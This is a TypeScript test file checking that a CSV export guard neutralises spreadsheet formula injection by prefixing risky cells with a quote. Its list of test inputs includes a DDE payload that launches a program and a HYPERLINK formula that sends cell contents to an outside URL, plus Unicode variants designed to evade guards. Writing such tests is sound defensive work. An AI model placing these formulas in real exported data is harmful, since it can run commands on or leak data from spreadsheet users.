import fc from "fast-check";
import { expect, test } from "vitest";
import { withGuard, withoutGuard } from "../../src/csv/spreadsheet-text.ts";

/** Beginnings by which a cell is run, or might be. */
export const attacks: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"甲县")',
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\t甲县",
  " =1+1",
  "\u00A0=1+1",
  "\u3000=1+1",
  "\uFEFF=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1,1)",
  "﹦1+1",
  "﹢1+1",
  "﹣1+1",
  "﹫SUM(1,1)",
  "'=1+1",
  "''=1+1",
];

test.each(attacks)("%j is made text in the safe mode, and comes back", (text) => {
  const written = withGuard(text, true);
  expect(written).toBe(`'${text}`);
  expect(withoutGuard(written)).toBe(text);
});

test.each(["甲县", "1-6月", "R&D", "a=b", "O'Brien", "'quoted'", "", "—", "…", "5.8", "#其中", "‘=1"])(
  "%j stays as it is",
  (text) => {
    expect(withGuard(text, true)).toBe(text);
    expect(withoutGuard(text)).toBe(text);
  },
);

test("any text comes back in either mode, and in the safe one none begins like a formula", () => {
  const char = fc.constantFrom("'", "=", "+", "-", "@", "＝", "－", "\t", "\n", " ", "甲", "a", "1", ",");
  fc.assert(
    fc.property(fc.string({ unit: char, maxLength: 8 }), fc.boolean(), (text, safe) => {
      const written = withGuard(text, safe);
      expect(withoutGuard(written)).toBe(text);
      if (safe) expect(written.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
    }),
    { numRuns: 2000 },
  );
});
